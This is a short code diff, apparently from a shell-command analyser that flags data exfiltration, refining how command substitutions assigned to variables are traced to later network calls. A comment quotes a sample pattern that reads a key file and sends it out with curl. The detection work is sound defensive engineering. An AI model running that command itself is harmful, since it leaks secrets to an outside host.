@@ -498,12 +498,13 @@ function rawExitOf(
     }
   }
   if (cmd.inSubstitution) {
-    // `K=$(cat key); curl -d "$K" URL`: the analysis keeps no assignment-only statement, so a
-    // substitution no command encloses is taken as assigned, and a later network program with an
-    // argument built from a variable as its use.
+    // `K=$(cat key); curl -d "$K" URL`: a substitution enclosed by no command but an assignment
+    // (an assignment-only statement is a command without words) is taken as assigned, and a later
+    // network program with an argument built from a variable as its use.
     const enclosed = analysis.commands.some(
       (c) =>
         c !== cmd &&
+        c.argv.length > 0 &&
         c.span.start <= cmd.span.start &&
         c.span.end >= cmd.span.end &&
         !['export', 'local', 'declare', 'typeset', 'readonly'].includes(c.name ?? ''),
